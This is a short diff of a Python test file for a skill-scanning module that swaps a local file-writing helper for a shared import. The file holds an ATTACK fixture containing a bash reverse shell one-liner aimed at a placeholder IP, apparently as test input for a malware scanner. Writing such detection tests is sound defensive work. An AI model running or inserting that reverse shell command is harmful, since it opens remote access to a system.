@@ -16,17 +16,10 @@ from skillyard.check.scanning import (
 )
 from skillyard.check.scanning.files import _MAX_LARGE_BYTES
 from skillyard.files import DEFAULT_LIMITS
+from tests.parity.trees import write_tree as _write
 
 ATTACK = b"bash -i >& /dev/tcp/192.0.2.1/1 0>&1"
 SKILL = b"---\nname: pencil\ndescription: Draws.\n---\nDraw.\n"
-
-
-def _write(folder: Path, files: dict[str, bytes]) -> Path:
-    for name, data in files.items():
-        path = folder / name
-        path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_bytes(data)
-    return folder
 
 
 def _scan(folder: Path) -> list[ScanFinding]:
